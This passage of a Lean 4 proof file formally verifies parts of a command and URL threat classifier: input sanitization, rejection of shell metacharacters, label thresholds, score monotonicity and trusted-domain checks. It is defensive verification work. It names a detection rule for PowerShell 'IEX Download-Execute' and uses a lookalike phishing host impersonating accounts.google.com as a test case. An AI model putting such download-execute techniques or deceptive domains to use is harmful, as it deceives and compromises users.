        · rw [if_neg hm]
          rcases h with h | h | h
          · exact absurd h hL
          · exact List.mem_cons_of_mem _ (List.mem_append_left _ (List.mem_reverse.mpr h))
          · rcases List.mem_cons.mp h with he | hrest
            · exact absurd he hd'
            · exact List.mem_cons_of_mem _
                (List.mem_append_right _ (ih d [] (Or.inr (Or.inr hrest))))
      | none =>
        dsimp only
        rcases h with rfl | h | h
        · exact List.mem_cons_self _ _
        · exact List.mem_cons_of_mem _ (List.mem_append_left _ (List.mem_reverse.mpr h))
        · rcases List.mem_cons.mp h with he | hrest
          · exact List.mem_cons_of_mem _
              (List.mem_append_right _ (ih d [] (Or.inl he)))
          · exact List.mem_cons_of_mem _
              (List.mem_append_right _ (ih d [] (Or.inr (Or.inr hrest))))
    · rw [if_neg hd]
      by_cases hb : blockedBy marks d = true
      · rw [if_pos hb]
        apply ih
        rcases h with h | h | h
        · exact Or.inl h
        · exact Or.inr (Or.inl (List.mem_cons_of_mem _ h))
        · rcases List.mem_cons.mp h with he | hrest
          · exact Or.inr (Or.inl (he ▸ List.mem_cons_self _ _))
          · exact Or.inr (Or.inr hrest)
      · rw [if_neg hb]
        cases hpc : primComp L d with
        | some P =>
          dsimp only
          have hL : ¬('|' = L) := by
            intro he
            rw [← he, pipe_primComp_left d] at hpc
            exact Option.noConfusion hpc
          have hd' : ¬('|' = d) := by
            intro he
            rw [← he, pipe_primComp_right L] at hpc
            exact Option.noConfusion hpc
          apply ih
          rcases h with h | h | h
          · exact absurd h hL
          · exact Or.inr (Or.inl h)
          · rcases List.mem_cons.mp h with he | hrest
            · exact absurd he hd'
            · exact Or.inr (Or.inr hrest)
        | none =>
          dsimp only
          apply ih
          rcases h with h | h | h
          · exact Or.inl h
          · exact Or.inr (Or.inl (List.mem_cons_of_mem _ h))
          · rcases List.mem_cons.mp h with he | hrest
            · exact Or.inr (Or.inl (he ▸ List.mem_cons_self _ _))
            · exact Or.inr (Or.inr hrest)

theorem pipe_mem_compose : ∀ l : List Char, '|' ∈ l → '|' ∈ compose l := by
  intro l
  induction l with
  | nil =>
    intro h
    simp at h
  | cons c rest ih =>
    intro h
    simp only [compose]
    by_cases hc : (pyCCC c == 0) = true
    · rw [if_pos hc]
      rcases List.mem_cons.mp h with he | hrest
      · exact pipe_mem_composeAux rest c [] (Or.inl he)
      · exact pipe_mem_composeAux rest c [] (Or.inr (Or.inr hrest))
    · rw [if_neg hc]
      rcases List.mem_cons.mp h with he | hrest
      · exact he ▸ List.mem_cons_self _ _
      · exact List.mem_cons_of_mem _ (ih hrest)

theorem pipe_mem_pyNFKC {l : List Char} (h : '|' ∈ l) : '|' ∈ pyNFKC l :=
  pipe_mem_compose _ (pipe_mem_canonicalOrder (pipe_mem_decompose h))

theorem pipe_mem_pySplitAux :
    ∀ (l acc : List Char), ('|' ∈ l ∨ '|' ∈ acc) →
      ∃ w ∈ pySplitAux l acc, '|' ∈ w := by
  intro l
  induction l with
  | nil =>
    intro acc h
    rcases h with h | h
    · simp at h
    · have hne : acc.isEmpty = false := by
        cases acc with
        | nil => simp at h
        | cons a t => rfl
      simp only [pySplitAux, hne]
      exact ⟨acc.reverse, by simp, List.mem_reverse.mpr h⟩
  | cons c rest ih =>
    intro acc h
    simp only [pySplitAux]
    by_cases hw : isPyWS c = true
    · have hcp : ¬('|' = c) := by
        intro he
        rw [← he] at hw
        exact absurd hw (by decide)
      rw [if_pos hw]
      by_cases ha : acc.isEmpty = true
      · rw [if_pos ha]
        apply ih
        left
        rcases h with h | h
        · rcases List.mem_cons.mp h with he | hr
          · exact absurd he hcp
          · exact hr
        · rw [List.isEmpty_iff.mp ha] at h
          simp at h
      · rw [if_neg ha]
        rcases h with h | h
        · rcases List.mem_cons.mp h with he | hr
          · exact absurd he hcp
          · obtain ⟨w, hwmem, hwp⟩ := ih [] (Or.inl hr)
            exact ⟨w, List.mem_cons_of_mem _ hwmem, hwp⟩
        · exact ⟨acc.reverse, List.mem_cons_self _ _, List.mem_reverse.mpr h⟩
    · rw [if_neg hw]
      rcases h with h | h
      · rcases List.mem_cons.mp h with he | hr
        · exact ih (c :: acc) (Or.inr (he ▸ List.mem_cons_self _ _))
        · exact ih (c :: acc) (Or.inl hr)
      · exact ih (c :: acc) (Or.inr (List.mem_cons_of_mem _ h))

theorem pipe_mem_spaceJoin :
    ∀ (ws : List (List Char)) (w : List Char), w ∈ ws → '|' ∈ w →
      '|' ∈ spaceJoin ws := by
  intro ws
  induction ws with
  | nil =>
    intro w h
    simp at h
  | cons w' ws ih =>
    intro w hmem hp
    cases ws with
    | nil =>
      simp only [List.mem_singleton] at hmem
      subst hmem
      simpa [spaceJoin] using hp
    | cons w'' ws' =>
      simp only [spaceJoin]
      rcases List.mem_cons.mp hmem with rfl | hmem'
      · exact List.mem_append_left _ hp
      · exact List.mem_append_right _ (List.mem_cons_of_mem _ (ih w hmem' hp))

theorem pipe_mem_dropWhile : ∀ l : List Char, '|' ∈ l → '|' ∈ l.dropWhile isPyWS := by
  intro l
  induction l with
  | nil =>
    intro h
    simp at h
  | cons d rest ih =>
    intro h
    rw [List.dropWhile_cons]
    by_cases hd : isPyWS d = true
    · rw [if_pos hd]
      rcases List.mem_cons.mp h with he | hr
      · rw [← he] at hd
        exact absurd hd (by decide)
      · exact ih hr
    · rw [if_neg hd]
      exact h

theorem pipe_mem_stripWS {l : List Char} (h : '|' ∈ l) : '|' ∈ stripWS l := by
  unfold stripWS
  exact List.mem_reverse.mpr
    (pipe_mem_dropWhile _ (List.mem_reverse.mpr (pipe_mem_dropWhile _ h)))

/-- Sanitization never removes a pipe: it has no decomposition, is never an
argument of a primary composite, is neither zero-width nor of category C,
and is not whitespace. -/
theorem pipe_mem_sanitizeStr {l : List Char} (h : '|' ∈ l) :
    '|' ∈ sanitizeStr l := by
  unfold sanitizeStr sanitize_text
  apply pipe_mem_stripWS
  have hf : '|' ∈ (pyNFKC l).filter keepChar :=
    List.mem_filter.mpr ⟨pipe_mem_pyNFKC h, by decide⟩
  obtain ⟨w, hw, hp⟩ := pipe_mem_pySplitAux ((pyNFKC l).filter keepChar) [] (Or.inl hf)
  exact pipe_mem_spaceJoin _ w hw hp

/-- A validated command has no forbidden shell character in its sanitized
text. -/
theorem validate_cmd_true_no_bad {cmd : List Char}
    (hv : validate_cmd cmd = true) :
    ¬((sanitizeStr cmd).any badShellChar = true) := by
  intro hany
  have : validate_cmd cmd = false := by
    show (if ((sanitizeStr cmd).isEmpty ||
          decide (MAX_CMD_LENGTH < (sanitizeStr cmd).length)) = true
        then false
        else if (sanitizeStr cmd).any badShellChar = true then false
        else true) = false
    by_cases h1 : ((sanitizeStr cmd).isEmpty ||
        decide (MAX_CMD_LENGTH < (sanitizeStr cmd).length)) = true
    · rw [if_pos h1]
    · rw [if_neg h1, if_pos hany]
  rw [this] at hv
  exact Bool.noConfusion hv

/-- Only the IEX Download-Execute entry of RULE_PATTERNS carries that name,
so its presence in the hit list means the IEX pattern matched. -/
theorem mem_apply_rules_iex {t : List Char}
    (h : "IEX Download-Execute" ∈ apply_rules t) : reSearch iexRE t = true := by
  unfold apply_rules at h
  by_cases ht : t.isEmpty = true
  · rw [if_pos ht] at h
    simp at h
  · rw [if_neg ht] at h
    simp only [List.mem_map] at h
    obtain ⟨nr, hnr, hname⟩ := h
    rw [List.mem_filter] at hnr
    obtain ⟨hmem, hsearch⟩ := hnr
    simp only [RULE_PATTERNS, List.mem_cons, List.not_mem_nil, or_false] at hmem
    rcases hmem with rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl <;>
      first
        | exact hsearch
        | exact absurd hname (by decide)

/-! ### Printable ASCII is normalization-inert and survives the filter. -/

theorem plain_bounds {c : Char} (h : plainChar c = true) :
    0x20 ≤ c.toNat ∧ c.toNat ≤ 0x7e := by
  unfold plainChar at h
  simp only [Bool.and_eq_true, decide_eq_true_eq] at h
  exact h

theorem plain_decompChar {c : Char} (h : plainChar c = true) :
    decompChar c = [c] := by
  unfold decompChar
  rw [if_neg, if_neg]
  · intro he
    rw [beq_iff_eq.mp he] at h
    exact absurd h (by decide)
  · intro he
    rw [beq_iff_eq.mp he] at h
    exact absurd h (by decide)

theorem plain_pyCCC {c : Char} (h : plainChar c = true) : pyCCC c = 0 := by
  unfold pyCCC
  rw [if_neg]
  intro he
  rw [beq_iff_eq.mp he] at h
  exact absurd h (by decide)

theorem plain_decompose :
    ∀ l : List Char, (∀ c ∈ l, plainChar c = true) → decompose l = l := by
  intro l
  induction l with
  | nil => intro _; rfl
  | cons c rest ih =>
    intro h
    unfold decompose at ih ⊢
    rw [List.flatMap_cons, plain_decompChar (h c (List.mem_cons_self c rest)),
      ih (fun d hd => h d (List.mem_cons_of_mem c hd))]
    rfl

theorem plain_coAux :
    ∀ l : List Char, (∀ c ∈ l, pyCCC c = 0) → coAux [] l = l := by
  intro l
  induction l with
  | nil => intro _; rfl
  | cons c rest ih =>
    intro h
    simp only [coAux]
    rw [if_pos (by simp [h c (List.mem_cons_self c rest)]),
      ih (fun d hd => h d (List.mem_cons_of_mem c hd))]
    rfl

theorem plain_canonicalOrder {l : List Char}
    (h : ∀ c ∈ l, plainChar c = true) : canonicalOrder l = l :=
  plain_coAux l (fun c hc => plain_pyCCC (h c hc))

theorem plain_primComp_none (a : Char) {b : Char} (h : plainChar b = true) :
    primComp a b = none := by
  unfold primComp
  rw [if_neg]
  intro he
  rw [Bool.and_eq_true] at he
  rw [beq_iff_eq.mp he.2] at h
  exact absurd h (by decide)

theorem plain_composeAux :
    ∀ rest : List Char, ∀ L : Char, (∀ c ∈ rest, plainChar c = true) →
      composeAux L [] rest = L :: rest := by
  intro rest
  induction rest with
  | nil => intro L _; rfl
  | cons d rest ih =>
    intro L h
    simp only [composeAux]
    rw [if_pos (by simp [plain_pyCCC (h d (List.mem_cons_self d rest))]),
      plain_primComp_none L (h d (List.mem_cons_self d rest))]
    simp only [List.reverse_nil, List.singleton_append]
    rw [ih d (fun e he => h e (List.mem_cons_of_mem d he))]

theorem plain_compose {l : List Char} (h : ∀ c ∈ l, plainChar c = true) :
    compose l = l := by
  cases l with
  | nil => rfl
  | cons c rest =>
    simp only [compose]
    rw [if_pos (by simp [plain_pyCCC (h c (List.mem_cons_self c rest))])]
    exact plain_composeAux rest c (fun d hd => h d (List.mem_cons_of_mem c hd))

theorem plain_pyNFKC {l : List Char} (h : ∀ c ∈ l, plainChar c = true) :
    pyNFKC l = l := by
  unfold pyNFKC
  rw [plain_decompose l h, plain_canonicalOrder h, plain_compose h]

theorem plain_keep {c : Char} (h : plainChar c = true) : keepChar c = true := by
  obtain ⟨h1, h2⟩ := plain_bounds h
  unfold keepChar
  have hz : zwChars.contains c = false := by
    cases hcon : zwChars.contains c with
    | false => rfl
    | true =>
      have hmem : c ∈ zwChars := by simpa using hcon
      simp only [zwChars, List.mem_cons, List.not_mem_nil, or_false] at hmem
      rcases hmem with rfl | rfl | rfl | rfl <;> exact absurd h (by decide)
  have hcat : isCatC c = false := by
    unfold isCatC
    simp only [Bool.or_eq_false_iff, Bool.and_eq_false_iff,
      decide_eq_false_iff_not, beq_eq_false_iff_ne, ne_eq]
    omega
  rw [hz, hcat]
  rfl

/-! ### Whitespace collapsing is idempotent: the words of a space-join of
good words are those words again, and the join has no outer whitespace. -/

theorem mem_pySplitAux_subset :
    ∀ (l acc w : List Char) (c : Char), w ∈ pySplitAux l acc → c ∈ w →
      c ∈ l ∨ c ∈ acc := by
  intro l
  induction l with
  | nil =>
    intro acc w c hw hc
    simp only [pySplitAux] at hw
    by_cases ha : acc.isEmpty = true
    · rw [if_pos ha] at hw
      exact absurd hw (List.not_mem_nil w)
    · rw [if_neg ha] at hw
      simp only [List.mem_singleton] at hw
      subst hw
      exact Or.inr (List.mem_reverse.mp hc)
  | cons d rest ih =>
    intro acc w c hw hc
    simp only [pySplitAux] at hw
    by_cases hd : isPyWS d = true
    · rw [if_pos hd] at hw
      by_cases ha : acc.isEmpty = true
      · rw [if_pos ha] at hw
        rcases ih [] w c hw hc with h | h
        · exact Or.inl (List.mem_cons_of_mem d h)
        · exact absurd h (List.not_mem_nil c)
      · rw [if_neg ha] at hw
        rcases List.mem_cons.mp hw with rfl | hw'
        · exact Or.inr (List.mem_reverse.mp hc)
        · rcases ih [] w c hw' hc with h | h
          · exact Or.inl (List.mem_cons_of_mem d h)
          · exact absurd h (List.not_mem_nil c)
    · rw [if_neg hd] at hw
      rcases ih (d :: acc) w c hw hc with h | h
      · exact Or.inl (List.mem_cons_of_mem d h)
      · rcases List.mem_cons.mp h with rfl | h'
        · exact Or.inl (List.mem_cons_self c rest)
        · exact Or.inr h'

theorem mem_spaceJoin_subset :
    ∀ (ws : List (List Char)) (c : Char), c ∈ spaceJoin ws →
      (∃ w ∈ ws, c ∈ w) ∨ c = ' ' := by
  intro ws
  induction ws with
  | nil =>
    intro c hc
    exact absurd hc (List.not_mem_nil c)
  | cons w ws ih =>
    intro c hc
    cases ws with
    | nil =>
      exact Or.inl ⟨w, List.mem_singleton_self w, hc⟩
    | cons w2 ws' =>
      simp only [spaceJoin] at hc
      rcases List.mem_append.mp hc with h | h
      · exact Or.inl ⟨w, List.mem_cons_self _ _, h⟩
      · rcases List.mem_cons.mp h with rfl | h'
        · exact Or.inr rfl
        · rcases ih c h' with ⟨w', hw', hcw⟩ | h''
          · exact Or.inl ⟨w', List.mem_cons_of_mem _ hw', hcw⟩
          · exact Or.inr h''

theorem mem_stripWS_subset {l : List Char} {c : Char} (h : c ∈ stripWS l) :
    c ∈ l := by
  unfold stripWS at h
  have h1 := List.mem_reverse.mp h
  have h2 := (List.dropWhile_sublist _).mem h1
  have h3 := List.mem_reverse.mp h2
  exact (List.dropWhile_sublist _).mem h3

theorem pySplitAux_words :
    ∀ (l acc : List Char), (∀ c ∈ acc, isPyWS c = false) →
      ∀ w ∈ pySplitAux l acc, w ≠ [] ∧ ∀ c ∈ w, isPyWS c = false := by
  intro l
  induction l with
  | nil =>
    intro acc hacc w hw
    simp only [pySplitAux] at hw
    by_cases ha : acc.isEmpty = true
    · rw [if_pos ha] at hw
      exact absurd hw (List.not_mem_nil w)
    · rw [if_neg ha] at hw
      simp only [List.mem_singleton] at hw
      subst hw
      constructor
      · intro he
        rw [List.reverse_eq_nil_iff] at he
        rw [he] at ha
        exact ha rfl
      · intro c hc
        exact hacc c (List.mem_reverse.mp hc)
  | cons d rest ih =>
    intro acc hacc w hw
    simp only [pySplitAux] at hw
    by_cases hd : isPyWS d = true
    · rw [if_pos hd] at hw
      by_cases ha : acc.isEmpty = true
      · rw [if_pos ha] at hw
        exact ih [] (by intro c hc; exact absurd hc (List.not_mem_nil c)) w hw
      · rw [if_neg ha] at hw
        rcases List.mem_cons.mp hw with rfl | hw'
        · constructor
          · intro he
            rw [List.reverse_eq_nil_iff] at he
            rw [he] at ha
            exact ha rfl
          · intro c hc
            exact hacc c (List.mem_reverse.mp hc)
        · exact ih [] (by intro c hc; exact absurd hc (List.not_mem_nil c)) w hw'
    · rw [if_neg hd] at hw
      refine ih (d :: acc) ?_ w hw
      intro c hc
      rcases List.mem_cons.mp hc with rfl | hc'
      · cases hv : isPyWS c with
        | false => rfl
        | true => exact absurd hv hd
      · exact hacc c hc'

theorem pySplitAux_append_word :
    ∀ (w : List Char), (∀ c ∈ w, isPyWS c = false) →
      ∀ (acc s : List Char),
        pySplitAux (w ++ s) acc = pySplitAux s (w.reverse ++ acc) := by
  intro w
  induction w with
  | nil =>
    intro _ acc s
    simp
  | cons c w' ih =>
    intro h acc s
    have hc : isPyWS c = false := h c (List.mem_cons_self c w')
    simp only [List.cons_append, pySplitAux, hc, Bool.false_eq_true, if_false,
      List.append_eq]
    rw [ih (fun d hd => h d (List.mem_cons_of_mem c hd)) (c :: acc) s]
    simp

theorem pySplit_spaceJoin :
    ∀ ws : List (List Char),
      (∀ w ∈ ws, w ≠ [] ∧ ∀ c ∈ w, isPyWS c = false) →
      pySplit (spaceJoin ws) = ws := by
  intro ws
  induction ws with
  | nil => intro _; rfl
  | cons w ws ih =>
    intro h
    obtain ⟨hne, hchars⟩ := h w (List.mem_cons_self w ws)
    cases ws with
    | nil =>
      show pySplitAux w [] = [w]
      have := pySplitAux_append_word w hchars [] []
      rw [List.append_nil] at this
      rw [this]
      simp only [pySplitAux, List.append_nil]
      rw [if_neg, List.reverse_reverse]
      intro he
      rw [List.isEmpty_iff, List.reverse_eq_nil_iff] at he
      exact hne he
    | cons w2 ws' =>
      show pySplitAux (w ++ ' ' :: spaceJoin (w2 :: ws')) [] = w :: w2 :: ws'
      rw [pySplitAux_append_word w hchars [] (' ' :: spaceJoin (w2 :: ws'))]
      simp only [List.append_nil, pySplitAux]
      rw [if_pos (by decide), if_neg, List.reverse_reverse]
      · rw [show pySplitAux (spaceJoin (w2 :: ws')) [] =
            pySplit (spaceJoin (w2 :: ws')) from rfl,
          ih (fun v hv => h v (List.mem_cons_of_mem w hv))]
      · intro he
        rw [List.isEmpty_iff, List.reverse_eq_nil_iff] at he
        exact hne he

theorem spaceJoin_head :
    ∀ (w : List Char) (ws : List (List Char)), ∃ t : List Char,
      spaceJoin (w :: ws) = w ++ t := by
  intro w ws
  cases ws with
  | nil => exact ⟨[], (List.append_nil w).symm⟩
  | cons w2 ws' => exact ⟨' ' :: spaceJoin (w2 :: ws'), rfl⟩

theorem spaceJoin_rev_head :
    ∀ (ws : List (List Char)) (w : List Char),
      (∀ v ∈ w :: ws, v ≠ [] ∧ ∀ c ∈ v, isPyWS c = false) →
      ∃ (c : Char) (t : List Char),
        (spaceJoin (w :: ws)).reverse = c :: t ∧ isPyWS c = false := by
  intro ws
  induction ws with
  | nil =>
    intro w h
    obtain ⟨hne, hchars⟩ := h w (List.mem_cons_self w [])
    cases hr : w.reverse with
    | nil =>
      rw [List.reverse_eq_nil_iff] at hr
      exact absurd hr hne
    | cons c t =>
      refine ⟨c, t, hr, hchars c ?_⟩
      have : c ∈ w.reverse := by rw [hr]; exact List.mem_cons_self c t
      exact List.mem_reverse.mp this
  | cons w2 ws' ih =>
    intro w h
    obtain ⟨c, t, hrev, hc⟩ := ih w2 (fun v hv => h v (List.mem_cons_of_mem w hv))
    refine ⟨c, t ++ ' ' :: w.reverse, ?_, hc⟩
    show (w ++ ' ' :: spaceJoin (w2 :: ws')).reverse = c :: (t ++ ' ' :: w.reverse)
    rw [List.reverse_append, List.reverse_cons]
    rw [hrev]
    simp

theorem stripWS_spaceJoin :
    ∀ ws : List (List Char),
      (∀ w ∈ ws, w ≠ [] ∧ ∀ c ∈ w, isPyWS c = false) →
      stripWS (spaceJoin ws) = spaceJoin ws := by
  intro ws h
  cases ws with
  | nil => rfl
  | cons w ws' =>
    obtain ⟨hne, hchars⟩ := h w (List.mem_cons_self w ws')
    unfold stripWS
    have h1 : (spaceJoin (w :: ws')).dropWhile isPyWS = spaceJoin (w :: ws') := by
      obtain ⟨t, ht⟩ := spaceJoin_head w ws'
      rw [ht]
      cases hw : w with
      | nil => exact absurd hw hne
      | cons c w'' =>
        have hc : isPyWS c = false := by
          rw [hw] at hchars
          exact hchars c (List.mem_cons_self c w'')
        simp only [List.cons_append, List.dropWhile_cons, hc]
        rfl
    rw [h1]
    obtain ⟨c, t, hrev, hc⟩ := spaceJoin_rev_head ws' w h
    have h2 : List.dropWhile isPyWS ((spaceJoin (w :: ws')).reverse) =
        (spaceJoin (w :: ws')).reverse := by
      rw [hrev, List.dropWhile_cons, hc]
      simp
    rw [h2, List.reverse_reverse]

/-- Every character of a sanitized printable-ASCII text is printable ASCII
(the only character the sanitizer can introduce is the space). -/
theorem plain_sanitize_chars {x : List Char}
    (hx : ∀ c ∈ x, plainChar c = true) :
    ∀ c ∈ sanitizeStr x, plainChar c = true := by
  intro c hc
  have hx' : (pyNFKC x).filter keepChar = x := by
    rw [plain_pyNFKC hx]
    exact List.filter_eq_self.mpr (fun d hd => plain_keep (hx d hd))
  have hc1 : c ∈ spaceJoin (pySplit ((pyNFKC x).filter keepChar)) :=
    mem_stripWS_subset hc
  rcases mem_spaceJoin_subset _ c hc1 with ⟨w, hw, hcw⟩ | rfl
  · rcases mem_pySplitAux_subset _ [] w c hw hcw with h | h
    · rw [hx'] at h
      exact hx c h
    · exact absurd h (List.not_mem_nil c)
  · decide

end DeGuard

/-- C4: for every score s in [0,1], `assign_label` maps s to "malicious"
exactly when s ≥ 0.70, to "suspicious" exactly when 0.30 ≤ s < 0.70, and to
"benign" otherwise; in particular 0.70 labels malicious and 0.30 suspicious. -/
theorem C4_label_thresholds :
    (∀ s : ℚ, 0 ≤ s → s ≤ 1 →
      ((DeGuard.assign_label s = "malicious" ↔ 0.7 ≤ s) ∧
       (DeGuard.assign_label s = "suspicious" ↔ 0.3 ≤ s ∧ s < 0.7) ∧
       (DeGuard.assign_label s = "benign" ↔ s < 0.3))) ∧
    DeGuard.assign_label 0.7 = "malicious" ∧
    DeGuard.assign_label 0.3 = "suspicious" := by
  refine ⟨?_, by norm_num [DeGuard.assign_label], by norm_num [DeGuard.assign_label]⟩
  intro s _ _
  unfold DeGuard.assign_label
  by_cases h7 : (0.7 : ℚ) ≤ s
  · simp only [if_pos h7]
    refine ⟨by simp [h7], ?_, ?_⟩
    · constructor
      · intro h; exact absurd h (by decide)
      · rintro ⟨-, hlt⟩; exact absurd h7 (not_le.mpr hlt)
    · constructor
      · intro h; exact absurd h (by decide)
      · intro hlt; linarith
  · simp only [if_neg h7]
    by_cases h3 : (0.3 : ℚ) ≤ s
    · simp only [if_pos h3]
      refine ⟨?_, ?_, ?_⟩
      · constructor
        · intro h; exact absurd h (by decide)
        · intro h; exact absurd h h7
      · simp [h3, lt_of_not_le h7]
      · constructor
        · intro h; exact absurd h (by decide)
        · intro hlt; linarith
    · simp only [if_neg h3]
      refine ⟨?_, ?_, ?_⟩
      · constructor
        · intro h; exact absurd h (by decide)
        · intro h; exact absurd h h7
      · constructor
        · intro h; exact absurd h (by decide)
        · rintro ⟨h, -⟩; exact absurd h h3
      · simp [lt_of_not_le h3]

/-- Witness for C4 at the concrete score 1/2. -/
theorem C4_label_thresholds_witness :
    DeGuard.assign_label (1/2) = "suspicious" := by
  have h := (C4_label_thresholds.1 (1/2) (by norm_num) (by norm_num)).2.1
  exact h.mpr (by norm_num)

/-- C5: the seven weights sum to 1; for signal values in their allowed
ranges the weighted score lies in [0,1]; and increasing any single signal
while holding the other six fixed never decreases the score. -/
theorem C5_score_monotone :
    ((DeGuard.weights.map Prod.snd).sum = 1) ∧
    (∀ l c f s n b h : ℚ,
      DeGuard.BinSignal l → DeGuard.TernSignal c → DeGuard.BinSignal f →
      DeGuard.BinSignal s → DeGuard.BinSignal n → DeGuard.BinSignal b →
      DeGuard.BinSignal h →
      (0 ≤ DeGuard.cmdScore l c f s n b h ∧ DeGuard.cmdScore l c f s n b h ≤ 1) ∧
      (∀ l', l ≤ l' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l' c f s n b h) ∧
      (∀ c', c ≤ c' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c' f s n b h) ∧
      (∀ f', f ≤ f' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c f' s n b h) ∧
      (∀ s', s ≤ s' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c f s' n b h) ∧
      (∀ n', n ≤ n' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c f s n' b h) ∧
      (∀ b', b ≤ b' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c f s n b' h) ∧
      (∀ h', h ≤ h' → DeGuard.cmdScore l c f s n b h ≤ DeGuard.cmdScore l c f s n b h')) := by
  constructor
  · norm_num [DeGuard.weights]
  · intro l c f s n b h hl hc hf hs hn hb hh
    obtain ⟨hl0, hl1⟩ := DeGuard.binSignal_bounds hl
    obtain ⟨hc0, hc1⟩ := DeGuard.ternSignal_bounds hc
    obtain ⟨hf0, hf1⟩ := DeGuard.binSignal_bounds hf
    obtain ⟨hs0, hs1⟩ := DeGuard.binSignal_bounds hs
    obtain ⟨hn0, hn1⟩ := DeGuard.binSignal_bounds hn
    obtain ⟨hb0, hb1⟩ := DeGuard.binSignal_bounds hb
    obtain ⟨hh0, hh1⟩ := DeGuard.binSignal_bounds hh
    unfold DeGuard.cmdScore
    refine ⟨⟨by linarith, by linarith⟩, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩ <;>
      intro v hv <;> linarith

/-- Witness for C5 at an all-ones assignment (score exactly 1). -/
theorem C5_score_monotone_witness :
    (0 ≤ DeGuard.cmdScore 1 1 1 1 1 1 1 ∧ DeGuard.cmdScore 1 1 1 1 1 1 1 ≤ 1) ∧
    DeGuard.cmdScore 0 0 0 0 0 0 0 ≤ DeGuard.cmdScore 0 1 0 0 0 0 0 := by
  have h := (C5_score_monotone.2 1 1 1 1 1 1 1
    (Or.inr rfl) (Or.inr (Or.inr rfl)) (Or.inr rfl) (Or.inr rfl)
    (Or.inr rfl) (Or.inr rfl) (Or.inr rfl)).1
  have h2 := ((C5_score_monotone.2 0 0 0 0 0 0 0
    (Or.inl rfl) (Or.inl rfl) (Or.inl rfl) (Or.inl rfl)
    (Or.inl rfl) (Or.inl rfl) (Or.inl rfl)).2.2.1) 1 (by norm_num)
  exact ⟨h, h2⟩

/-- C1: on the command orchestration path (non-empty sanitized command that
is validated or run with --unsafe), a benign-pattern hit resolves the input
as benign, and the outcome does not depend on the malicious rule stage or
the model (both universally quantified); in particular "schtasks /query"
classifies benign. -/
theorem C1_benign_short_circuit :
    (∀ (raw : List Char) (allowUnsafe : Bool)
       (malF : List Char → List String) (predict : List Char → String),
       DeGuard.sanitizeStr (DeGuard.stripWS raw) ≠ [] →
       (allowUnsafe = true ∨
         DeGuard.validate_cmd (DeGuard.sanitizeStr (DeGuard.stripWS raw)) = true) →
       DeGuard.apply_benign_rules (DeGuard.sanitizeStr (DeGuard.stripWS raw)) ≠ [] →
       DeGuard.handle_cmd_gen DeGuard.apply_benign_rules malF predict allowUnsafe raw =
         DeGuard.CmdResult.benignRes
           (DeGuard.apply_benign_rules (DeGuard.sanitizeStr (DeGuard.stripWS raw)))) ∧
    (∀ predict : List Char → String,
       DeGuard.handle_cmd predict false (DeGuard.lc "schtasks /query") =
         DeGuard.CmdResult.benignRes ["SCHTASKS Query"]) := by
  constructor
  · intro raw u malF predict h1 h2 h3
    have e1 : (DeGuard.sanitizeStr (DeGuard.stripWS raw)).isEmpty = false := by
      cases hc : DeGuard.sanitizeStr (DeGuard.stripWS raw) with
      | nil => exact absurd hc h1
      | cons a t => rfl
    have e2 : (!u && !(DeGuard.validate_cmd (DeGuard.sanitizeStr (DeGuard.stripWS raw)))) =
        false := by
      rcases h2 with h2 | h2 <;> simp [h2]
    have e3 : (DeGuard.apply_benign_rules (DeGuard.sanitizeStr (DeGuard.stripWS raw))).isEmpty =
        false := by
      cases hc : DeGuard.apply_benign_rules (DeGuard.sanitizeStr (DeGuard.stripWS raw)) with
      | nil => exact absurd hc h3
      | cons a t => rfl
    simp only [DeGuard.handle_cmd_gen, e1, e2, e3, Bool.false_eq_true, if_false,
      Bool.not_false, if_true]
  · intro predict
    rfl

/-- Witness for C1: the general short-circuit applied to the raw input
"schtasks /query" with the real malicious stage and an arbitrary model. -/
theorem C1_benign_short_circuit_witness :
    DeGuard.handle_cmd_gen DeGuard.apply_benign_rules DeGuard.apply_rules
        (fun _ => "model") false (DeGuard.lc "schtasks /query") =
      DeGuard.CmdResult.benignRes
        (DeGuard.apply_benign_rules
          (DeGuard.sanitizeStr (DeGuard.stripWS (DeGuard.lc "schtasks /query")))) :=
  C1_benign_short_circuit.1 (DeGuard.lc "schtasks /query") false
    DeGuard.apply_rules (fun _ => "model")
    (by decide) (Or.inr (by decide)) (by decide)

/-- C2: the trusted check holds exactly for an exact trusted domain or a
genuine subdomain; the deceptive check holds exactly for a host containing
a trusted domain as a substring without being trusted; `classify_url`
resolves trusted hosts to Legitimate before the deceptive check, deceptive
hosts to Malicious, and a genuine subdomain (accounts.google.com) is
Legitimate while accounts.google.com.security-check.help is Malicious. -/
theorem C2_trust_policy :
    (∀ (D : List (List Char)) (h : List Char), h.map Char.toLower = h →
      ((DeGuard._is_trusted_host D h = true) ↔
        ∃ d ∈ D, h = d ∨ ('.' :: d) <:+ h) ∧
      ((DeGuard._is_deceptive_brand_in_subdomain D h = true) ↔
        ∃ d ∈ D, d <:+: h ∧ ¬(h = d ∨ ('.' :: d) <:+ h)) ∧
      (∀ (m : Option DeGuard.Model) (url : List Char),
        DeGuard._is_trusted_host D h = true →
        DeGuard.classify_url D m h url = Except.ok "Legitimate") ∧
      (∀ (m : Option DeGuard.Model) (url : List Char),
        DeGuard._is_trusted_host D h = false →
        DeGuard._is_deceptive_brand_in_subdomain D h = true →
        DeGuard.classify_url D m h url = Except.ok "Malicious") ∧
      (∀ (m : DeGuard.Model) (url : List Char),
        DeGuard._is_trusted_host D h = false →
        DeGuard._is_deceptive_brand_in_subdomain D h = false →
        DeGuard.classify_url D (some m) h url = Except.ok (m url))) ∧
    (∀ (m : Option DeGuard.Model) (url : List Char),
      DeGuard.classify_url DeGuard.SAFE_DOMAINS m
        (DeGuard.lc "accounts.google.com") url = Except.ok "Legitimate") ∧
    (∀ (m : Option DeGuard.Model) (url : List Char),
      DeGuard.classify_url DeGuard.SAFE_DOMAINS m
        (DeGuard.lc "accounts.google.com.security-check.help") url =
        Except.ok "Malicious") := by
  refine ⟨?_, fun m url => rfl, fun m url => rfl⟩
  intro D h hlow
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
